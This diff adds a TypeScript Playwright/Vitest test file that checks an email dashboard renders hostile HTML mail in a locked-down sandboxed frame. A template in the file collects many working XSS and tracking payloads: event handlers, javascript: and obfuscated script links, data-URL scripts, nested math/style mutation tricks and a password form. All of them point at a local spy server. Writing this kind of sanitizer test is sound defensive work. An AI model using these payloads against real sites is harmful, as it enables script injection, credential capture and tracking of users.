@@ -1,0 +1,138 @@
+import { createServer } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import type { Page } from 'playwright-core'
+import { beforeAll, describe, expect, test } from 'vitest'
+import { openBrowser } from '../harness/chromium.ts'
+import { CHROMIUM } from '../harness/chromium-path.ts'
+import { atEndOf } from '../harness/program.ts'
+import { dataFolder, eventually, Service } from '../harness/service.ts'
+
+/** Everything that html can fetch, run, send or cover. `SPY` is a server that writes down what it is asked for. */
+const HOSTILE = (spy: string) => `<!doctype html><html><head>
+<base href="${spy}/base/">
+<meta http-equiv="refresh" content="0; url=${spy}/refresh">
+<meta http-equiv="Content-Security-Policy" content="default-src *">
+<link rel="stylesheet" href="${spy}/style.css"><link rel="preload" as="image" href="${spy}/preload.png">
+<link rel="prefetch" href="${spy}/prefetch"><link rel="dns-prefetch" href="${spy}"><link rel="icon" href="${spy}/icon">
+<script src="${spy}/script.js"></script><script>top.pwned = parent.pwned = window.pwned = true</script>
+<style>@import url("${spy}/import.css"); @font-face { font-family: x; src: url("${spy}/font.woff2") }
+body { background: url("${spy}/background.png"); font-family: x } a::before { content: url("${spy}/content.png") }
+#cover { position: fixed; inset: 0; z-index: 2147483647; background: red }</style></style>
+</head><body onload="parent.pwned = true" background="${spy}/body.png">
+<p id="hello">Hello from a stranger</p>
+<img src="${spy}/picture.png" srcset="${spy}/srcset.png 2x" onerror="parent.pwned = true" onload="parent.pwned = true">
+<img src=x onerror="parent.pwned=true"><picture><source srcset="${spy}/source.png"><img src="${spy}/inside.png"></picture>
+<svg onload="parent.pwned = true"><image href="${spy}/svg.png"/><script>parent.pwned = true</script>
+<use href="${spy}/use.svg#x"/><foreignObject><iframe src="${spy}/foreign"></iframe></foreignObject></svg>
+<math><mtext><table><mglyph><style><img src=x onerror="parent.pwned = true"></style></mglyph></table></mtext></math>
+<iframe src="${spy}/frame"></iframe><iframe srcdoc="<script>parent.parent.pwned = true</script>"></iframe>
+<object data="${spy}/object"></object><embed src="${spy}/embed"><video src="${spy}/video" poster="${spy}/poster.png" autoplay></video>
+<audio src="${spy}/audio" autoplay></audio><input type="image" src="${spy}/input.png" autofocus onfocus="parent.pwned = true">
+<form action="${spy}/form" method="post" target="_top"><input name="password"><button id="submit">Sign in</button></form>
+<details open ontoggle="parent.pwned = true"><summary>x</summary></details><marquee onstart="parent.pwned = true">x</marquee>
+<a id="script" href="javascript:parent.pwned=true">a script</a>
+<a id="spaced" href=" java&#10;script:parent.pwned=true">a script in disguise</a>
+<a id="data" href="data:text/html,<script>opener.pwned=true</script>">data</a>
+<a id="link" href="${spy}/link" ping="${spy}/ping" target="_top">a link</a>
+<div id="cover" style="background-image: url('${spy}/inline.png')"></div>
+<template><img src="${spy}/template.png"></template><noscript><img src="${spy}/noscript.png"></noscript>
+<div style="behavior: url(${spy}/behavior.htc); -moz-binding: url(${spy}/binding.xml)">x</div>
+</body></html>`
+
+describe.runIf(CHROMIUM)('a hostile mail', () => {
+  let service: Service
+  let page: Page
+  let answers: string[]
+  let spy: string
+  let id: string
+  const asked: string[] = []
+
+  beforeAll(async () => {
+    const server = createServer((request, reply) => {
+      asked.push(request.url!)
+      reply.setHeader('access-control-allow-origin', '*').end('parent.pwned = true')
+    })
+    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
+    atEndOf('file', () => server.close())
+    spy = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
+    service = await Service.start({ dataDir: await dataFolder({ lifetime: 'file' }), lifetime: 'file' })
+    const browser = await openBrowser({ lifetime: 'file' })
+    page = browser.page
+    answers = browser.answers
+    const email = {
+      from: 'a@example.com',
+      to: 'b@example.com',
+      subject: '<img src=x onerror=pwned=1>',
+      html: HOSTILE(spy),
+    }
+    id = (await service.call('POST', '/emails', email)).body.id
+    await page.goto(`${service.url}/dashboard/emails/${id}`)
+    await page.getByLabel('API key').fill(service.token)
+    await page.getByRole('button', { name: 'Sign in' }).click()
+    await page.frameLocator('iframe').getByText('Hello from a stranger').waitFor()
+  })
+
+  const isPwned = () => page.evaluate('window.pwned === true')
+  const elsewhere = () => answers.filter((url) => !url.startsWith(service.url) && !/^(data|blob|about):/.test(url))
+
+  test('runs nothing and fetches nothing when it is looked at', async () => {
+    for (const tab of ['Text', 'Html', 'Source', 'Headers', 'Preview'])
+      await page.getByRole('tab', { name: tab }).click()
+    await page.getByRole('button', { name: 'Mobile' }).click()
+    await page.frameLocator('iframe').getByText('Hello from a stranger').waitFor()
+
+    expect(await isPwned()).toBe(false)
+    expect(asked).toEqual([])
+    expect(elsewhere()).toEqual([])
+  })
+
+  test('is shown in a frame that may do nothing, with nothing in it that could', async () => {
+    const frame = page.locator('iframe')
+    const inside = page.frameLocator('iframe')
+
+    expect(await frame.getAttribute('sandbox')).toBe('allow-popups allow-popups-to-escape-sandbox')
+    expect(
+      await inside.locator('script, form, input, button, iframe, object, embed, svg, math, base, link, video').count(),
+    ).toBe(0)
+    expect(await inside.locator('meta[http-equiv]').count()).toBe(1) // our own
+    expect(await inside.locator(':is(#script, #spaced, #data)[href]').count()).toBe(0)
+    for (const name of ['onload', 'onerror', 'ontoggle', 'onfocus', 'ping', 'srcset'])
+      expect([name, await inside.locator(`[${name}]`).count()]).toEqual([name, 0])
+  })
+
+  test('covers nothing of the page around it', async () => {
+    await page.getByRole('button', { name: 'Share' }).click()
+    await page.getByRole('dialog').getByText('/shared?token=').waitFor()
+    await page.keyboard.press('Escape')
+  })
+
+  test('has links that open another tab, which knows nothing of this one', async () => {
+    const link = page.frameLocator('iframe').locator('#link')
+
+    expect([await link.getAttribute('target'), await link.getAttribute('rel')]).toEqual([
+      '_blank',
+      'noopener noreferrer nofollow',
+    ])
+    expect(asked).toEqual([])
+  })
+
+  test('gets its pictures when they are asked for, and nothing else', async () => {
+    await page.getByRole('button', { name: 'Show pictures' }).click()
+    await page.frameLocator('iframe').getByText('Hello from a stranger').waitFor()
+    await eventually(() => asked.includes('/picture.png'))
+
+    expect(asked.filter((path) => !path.endsWith('.png'))).toEqual([])
+    expect(await isPwned()).toBe(false)
+    expect(await page.frameLocator('iframe').locator('script, form, iframe').count()).toBe(0)
+  })
+
+  test('does no more on the page that it is shared on', async () => {
+    asked.length = 0
+    const { url } = (await service.call('POST', `/emails/${id}/share`, {})).body
+    await page.goto(`${service.url}/shared${new URL(url).search}`)
+    await page.frameLocator('iframe').getByText('Hello from a stranger').waitFor()
+
+    expect(await isPwned()).toBe(false)
+    expect(asked).toEqual([])
+  })
+})
